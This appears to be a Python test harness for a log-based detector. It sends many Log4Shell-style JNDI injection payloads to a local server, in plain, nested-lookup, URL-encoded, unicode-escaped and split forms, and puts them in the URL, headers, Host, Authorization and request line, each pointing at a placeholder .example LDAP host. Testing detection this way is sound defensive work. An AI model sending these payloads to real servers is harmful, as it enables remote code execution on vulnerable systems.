"""Attacks in every part of an HTTP request, with the bytes that break formats; the server's own answer gives the status."""
import base64

from server_case import talk

URL, AGENT, REFERER = "url.original", "user_agent.original", "http.request.referrer"
HEADER = "http.request.headers."
SPLIT = {"composed", "message", URL}
MAYBE = {"grade": ("exploit", "attempt")}  # where the log does not show the brace


def head(first, *headers, host=b"shop.example"):
    lines = [first] + ([b"Host: " + host] if host is not None else []) + list(headers) + [b"Connection: close"]
    return b"\r\n".join(lines) + b"\r\n\r\n"


def get(target=b"/", *headers, **options):
    return head(b"GET " + target + b" HTTP/1.1", *headers, **options)


def all_requests(new):
    """Pairs of request bytes and what new() was told of them; new(fields, template, **expect) gives a payload."""
    def p(fields, template="${jndi:ldap://%s.example/a}", **expect):
        return new(fields, template, **expect).encode()

    agent, quoted = {AGENT}, {AGENT, "message"}
    yield get(b"/a/" + p({URL}))
    yield get(b"/?q=" + p({URL}))
    yield get(b"/?q=" + p({URL}, "%%24%%7Bjndi:ldap://%s.example/a%%7d"))
    yield get(b"/?q=" + p({URL}, "%%2524%%257Bjndi:ldap://%s.example/a%%257d"))
    yield get(b"/?q=\xc3\xa9\"\\" + p({URL, "message"}))
    yield get(b"http://shop.example/abs/" + p({URL}))
    yield get(b"/", b"User-Agent: " + p(agent))
    yield get(b"/", b"User-Agent: " + p(agent, "${${lower:j}ndi:${lower:l}dap://%s.example/a}"))
    yield get(b"/", b"User-Agent: " + p(agent, "${${date:'j'}${date:'n'}di:ldap://%s.example/a}"))
    yield get(b"/", b"User-Agent: " + p(agent, "\\u0024{jndi:ldap://%s.example/a}"))
    yield get(b"/", b"User-Agent: a \"b\\\" c\\\\ \xc3\xa9 \xff " + p(quoted))
    yield get(b"/", b"User-Agent: " + p(quoted, '${jndi:ldap://%s.example/a"b\\}'))
    yield get(b"/", b"User-Agent: " + p(quoted, '${${"x":-j}ndi:ldap://%s.example/" "}', source__ip=None))
    yield get(b"/", b"User-Agent: \"" + p(quoted) + b"\"")
    yield get(b"/", b"User-Agent: a\tb\x01\x7f" + p(agent))
    yield get(b"/", b"User-Agent: " + b"x" * 3000 + p(agent))
    yield get(b"/", b"User-Agent: a\rb" + p(agent))
    yield get(b"/", b"User-Agent: a\0b" + p(agent))
    yield get(b"/", b"Referer: " + p({REFERER}))
    yield get(b"/", b"Referer: http://x.example/?a=\"&b=" + p({REFERER, "message"}, "%%24{jndi:ldap://%s.example/a}"))
    yield get(b"/", b"X-Forwarded-For: " + p({HEADER + "x-forwarded-for"}))
    yield get(b"/", b"X-Forwarded-For: 203.0.113.9, " + p({HEADER + "x-forwarded-for"}))
    yield get(b"/", b"Cookie: a=b; c=" + p({HEADER + "cookie"}))
    yield get(b"/", b"X-Api-Version: " + p({HEADER + "x-api-version"}))
    yield get(b"/", b"Authorization: Basic " + base64.b64encode(p({"user.name", HEADER + "authorization"}) + b":x"))
    yield get(b"/", host=p({"url.domain", HEADER + "host", "message"}, url__domain=None))
    yield get(b"/" + p(SPLIT, "${jndi:ldap://%s.example/", **MAYBE), b"Referer: }")
    yield get(b"/" + p(SPLIT, "${jndi:ldap://%s.example/", **MAYBE), b"User-Agent: \"}\"")
    line = {URL, "http.request.line", "http.request.method", "message"}
    yield head(p(line, url__domain=None) + b" / HTTP/1.1")
    yield head(b"GET /${::-x} " + p(line, url__domain=None) + b" HTTP/1.1")
    yield head(b"GET / " + p(line, url__domain=None))
    yield b"GET /old/" + p({URL}, url__domain=None) + b"\r\n"
    yield p({"http.request.line", "message"}, url__domain=None) + b"\r\n\r\n"


class Sender:
    """Sends them all to one port of a server; notes client and status."""

    def __init__(self, sent, port):
        self.sent, self.port, self.n, self.names = sent, port, 0, []

    def new(self, fields, template, **expect):
        name = self.sent.name(fields, **expect)
        self.names.append(name)
        return template % name

    def send(self, data, client):
        got = talk(self.port, data, client)
        for name in self.names:
            fields, expect = self.sent.expected[name]
            expect.setdefault("source__ip", client)
            expect.setdefault("url__domain", "shop.example")
            status = got.split(b" ")[1] if got.startswith(b"HTTP/") else b""
            expect.setdefault("http__response__status_code", int(status) if status.isdigit() else None)
        self.names = []

    def all(self):
        for data in all_requests(self.new):
            self.n += 1
            self.send(data, "127.0.1.%d" % self.n)
            self.send(get(b"/ordinary?n=%d&price=$5%%20{x}" % self.n, b"User-Agent: Mozilla/5.0 (X11)"), "127.0.0.9")
